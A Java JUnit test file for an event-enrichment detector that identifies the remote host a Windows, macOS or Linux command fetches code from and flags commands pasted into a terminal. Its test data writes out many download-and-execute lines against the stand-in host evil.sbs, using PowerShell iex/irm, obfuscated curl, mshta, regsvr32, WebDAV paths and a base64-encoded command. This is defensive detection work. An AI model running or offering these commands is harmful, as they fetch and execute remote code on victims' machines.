package io.clicktrail.enricher.evidence;

import static io.clicktrail.enricher.TestEvents.CHROME;
import static io.clicktrail.enricher.TestEvents.EXPLORER;
import static io.clicktrail.enricher.TestEvents.HOST;
import static io.clicktrail.enricher.TestEvents.OUTLOOK;
import static io.clicktrail.enricher.TestEvents.TEN;
import static io.clicktrail.enricher.TestEvents.process;
import static io.clicktrail.enricher.TestEvents.processStart;
import static io.clicktrail.enricher.TestEvents.sysmon;
import static org.assertj.core.api.Assertions.assertThat;

import io.clicktrail.enricher.TestTunings;
import io.clicktrail.enricher.domain.Novelty;
import io.clicktrail.enricher.domain.Prevalence;
import io.clicktrail.enricher.intel.IntelTable;
import io.clicktrail.enricher.tuning.CompiledTuning;
import io.clicktrail.event.Event;
import io.clicktrail.event.EventKind;
import io.clicktrail.event.Host;
import io.clicktrail.event.ParentProcess;
import io.clicktrail.event.Platform;
import io.clicktrail.event.Process;
import io.clicktrail.evidence.Evidence;
import io.clicktrail.evidence.Role;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.util.Base64;
import java.util.Objects;
import org.jspecify.annotations.Nullable;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;

class CommandPlacesTest {

    private static final String POWERSHELL = "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe";

    private final Enrichment enrichment = TestTunings.enrichment(new IntelTable(1_000));

    @ParameterizedTest
    @CsvSource(
            delimiter = '|',
            quoteCharacter = '`',
            value = {
                "powershell.exe|powershell -w h -c \"iex(irm https://evil.sbs/a)\"|evil.sbs",
                "powershell.exe|powershell -w h -c iex(irm evil.sbs/a)|evil.sbs",
                "powershell.exe|powershell -c iwr -useb evil.sbs|evil.sbs",
                "cmd.exe|cmd /c c^url -s ht^tps://ev^il.sbs/a.bat -o %TEMP%\\a.bat|evil.sbs",
                "curl.exe|curl -s -o a.bat evil.sbs/a.bat|evil.sbs",
                "curl.exe|curl -o a.bat 198.51.100.7/a.bat|198.51.100.7",
                "mshta.exe|mshta http://evil.sbs/x.hta|evil.sbs",
                "msiexec.exe|msiexec /i https://evil.sbs/x.msi /qn|evil.sbs",
                "rundll32.exe|rundll32 \\\\evil.sbs@SSL\\DavWWWRoot\\x.dll,Start|evil.sbs",
                "regsvr32.exe|regsvr32 /s /u /i:https://evil.sbs/x.sct scrobj.dll|evil.sbs",
                "wscript.exe|wscript \\\\198.51.100.7@8080\\share\\x.js|198.51.100.7",
                "notepad.exe|notepad \\\\evil.sbs\\share\\x.txt|evil.sbs",
                "appinstaller.exe|AppInstaller.exe ms-appinstaller:?source=https://evil.sbs/x.msix|evil.sbs",
                "cmd.exe|cmd /c start file://evil.sbs/share/x.exe|evil.sbs",
                "powershell.exe|powershell -File C:\\Tools\\a.ps1|",
                "cmd.exe|cmd /c copy \\\\fileserver\\share\\a.exe C:\\x|",
                "cmd.exe|cmd /c copy \\\\10.0.0.9\\share\\a.exe C:\\x|",
                "cmd.exe|cmd /c dir C:\\\\build.files\\\\out|",
                "powershell.exe|powershell irm https://intranet/a.ps1|",
                "curl.exe|curl -o a.bat|",
            })
    void findsThePlaceThatACommandTakesCodeFrom(String image, String commandLine, @Nullable String place) {
        Evidence run = judged(processStart("C:\\Windows\\System32\\" + image, commandLine, "C:\\x\\agent.exe"));
        assertThat(
                        run == null || run.getDomain() == null
                                ? null
                                : run.getDomain().getTenantKey())
                .isEqualTo(place);
        if (place != null) {
            assertThat(Objects.requireNonNull(run).getRoles()).containsExactly(Role.EXECUTION);
        }
    }

    @Test
    void readsAnEncodedCommand() {
        String command =
                Base64.getEncoder().encodeToString("iex (iwr https://evil.sbs/a)".getBytes(StandardCharsets.UTF_16LE));
        Evidence run = judged(processStart(POWERSHELL, "powershell -w hidden -enc " + command, EXPLORER));
        assertThat(Objects.requireNonNull(run).getDomain().getTenantKey()).isEqualTo("evil.sbs");
        assertThat(run.getProcess().getPasted()).isTrue();
    }

    @Test
    void findsThePlaceOfAProgramThatRunsFromAWebDavFolder() {
        Evidence run = judged(processStart("\\\\evil.sbs@80\\DavWWWRoot\\x.exe", "x.exe", EXPLORER));
        assertThat(Objects.requireNonNull(run).getDomain().getTenantKey()).isEqualTo("evil.sbs");
    }

    @ParameterizedTest
    @CsvSource(
            delimiter = '|',
            quoteCharacter = '`',
            value = {
                "explorer.exe \"search-ms:query=x&crumb=location:\\\\evil.sbs@SSL\\DavWWWRoot&displayname=Scans\"",
                "explorer.exe \"search-ms:query=x&crumb=location:%5C%5Cevil.sbs%5Cshare&displayname=Scans\"",
                "SnippingTool.exe \"ms-screensketch:edit?&filePath=https://evil.sbs/x.png&isTemporary=true\""
            })
    void takesAHandlerThatIsGivenARemotePathForAClick(String commandLine) {
        for (String parent : new String[] {CHROME, OUTLOOK}) {
            Evidence click = Objects.requireNonNull(judged(processStart(EXPLORER, commandLine, parent)));
            assertThat(click.getRoles()).contains(Role.CLICK);
            assertThat(click.getDomain().getTenantKey()).isEqualTo("evil.sbs");
            assertThat(click.getWeakClick()).isFalse();
        }
    }

    @ParameterizedTest
    @CsvSource(
            delimiter = '|',
            value = {
                "C:\\Windows\\explorer.exe||true",
                "C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe||true",
                "C:\\Program Files\\WindowsApps\\WindowsTerminal.exe||true",
                "C:\\Windows\\System32\\cmd.exe|\"C:\\Windows\\System32\\cmd.exe\"|true",
                "C:\\Windows\\System32\\cmd.exe|cmd.exe /c update.bat|false",
                "C:\\Windows\\System32\\cmd.exe||false",
                "C:\\Windows\\System32\\svchost.exe|svchost.exe -k netsvcs|false"
            })
    void knowsACommandThatWasPastedOnWindows(String parent, @Nullable String parentLine, boolean pasted) {
        assertThat(isPasted(Platform.WINDOWS, POWERSHELL, "powershell irm https://evil.sbs/a", parent, parentLine))
                .isEqualTo(pasted);
    }

    @ParameterizedTest
    @CsvSource(
            delimiter = '|',
            value = {
                "MACOS|/System/Applications/Utilities/Terminal.app/Contents/MacOS/Terminal||true",
                "MACOS|/bin/zsh|-zsh|true",
                "MACOS|/bin/zsh||true",
                "MACOS|/bin/sh||false",
                "MACOS|/sbin/launchd||false",
                "LINUX|/usr/bin/bash|bash|true",
                "LINUX|/usr/bin/bash|bash --login|true",
                "LINUX|/usr/bin/bash|bash /opt/backup.sh|false",
                "LINUX|/usr/bin/bash|bash -c /opt/backup.sh|false",
                "LINUX|/usr/lib/systemd/systemd||false"
            })
    void knowsACommandThatWasTypedIntoATerminal(
            Platform platform, String parent, @Nullable String parentLine, boolean pasted) {
        assertThat(isPasted(platform, "/usr/bin/curl", "curl -fsSL https://evil.sbs/a.sh", parent, parentLine))
                .isEqualTo(pasted);
    }

    @Test
    void keepsTheExecutionButNotThePlaceThatIsKnownForLong() {
        CompiledTuning tuning = TestTunings.builtIn(Platform.WINDOWS);
        Evidence run = Objects.requireNonNull(judged(processStart(POWERSHELL, "irm https://evil.sbs/a", EXPLORER)));
        assertThat(Enrichment.awaitsNovelty(run)).isTrue();
        Evidence known = Objects.requireNonNull(EvidenceCompletion.withNovelty(
                run, new Novelty.Seen(TEN.minus(Duration.ofDays(30)), new Prevalence(0, 0), null), tuning));
        assertThat(known.getRoles()).contains(Role.EXECUTION);
        assertThat(known.getDomain()).isNull();
        Evidence fresh = Objects.requireNonNull(
                EvidenceCompletion.withNovelty(run, new Novelty.Seen(TEN, new Prevalence(0, 0), null), tuning));
        assertThat(fresh.getDomain().getTenantKey()).isEqualTo("evil.sbs");
    }

    @ParameterizedTest
    @CsvSource(
            delimiter = '|',
            value = {
                "/usr/bin/bash|bash -c \"$(curl -fsSL https://old.example/a)\"|true",
                "/usr/bin/curl|curl -fsSL https://old.example/a.sh|true",
                "/usr/bin/wget|wget -q https://old.example/fix -O /tmp/fix|true",
                "/usr/bin/wget|wget -q https://old.example/fix -O /tmp/fix.txt|false",
                "/usr/bin/curl|curl -s https://old.example/status|false",
                "/usr/bin/wget|wget -q https://old.example/|false"
            })
    void keepsAPlaceThatIsKnownForLongWhereTheCommandTakesItsFirstProgramFromThere(
            String image, String commandLine, boolean kept) {
        CompiledTuning tuning = TestTunings.builtIn(Platform.LINUX);
        Event event = sysmon(EventKind.PROCESS_START)
                .setHost(Host.newBuilder()
                        .setName(HOST)
                        .setPlatform(Platform.LINUX)
                        .build())
                .setProcess(process(image, commandLine, "/usr/bin/bash"))
                .build();
        Evidence run = Objects.requireNonNull(enrichment.enrich(event, HOST, tuning));
        var firstProgram = run.getDomain().getFirstProgram() ? TEN : null;
        Evidence known = Objects.requireNonNull(EvidenceCompletion.withNovelty(
                run, new Novelty.Seen(TEN.minus(Duration.ofDays(30)), new Prevalence(0, 0), firstProgram), tuning));

        assertThat(known.getDomain() != null).isEqualTo(kept);
    }

    private boolean isPasted(
            Platform platform, String image, String commandLine, String parent, @Nullable String parentLine) {
        Process process = Process.newBuilder(process(image, commandLine, parent))
                .setParent(ParentProcess.newBuilder()
                        .setExecutable(parent)
                        .setCommandLine(parentLine)
                        .build())
                .build();
        Event event = sysmon(EventKind.PROCESS_START)
                .setHost(Host.newBuilder().setName(HOST).setPlatform(platform).build())
                .setProcess(process)
                .build();
        Evidence run = enrichment.enrich(event, HOST, TestTunings.builtIn(platform));
        return Objects.requireNonNull(run).getProcess().getPasted();
    }

    private @Nullable Evidence judged(Event event) {
        return enrichment.enrich(event, HOST, TestTunings.builtIn(Platform.WINDOWS));
    }
}
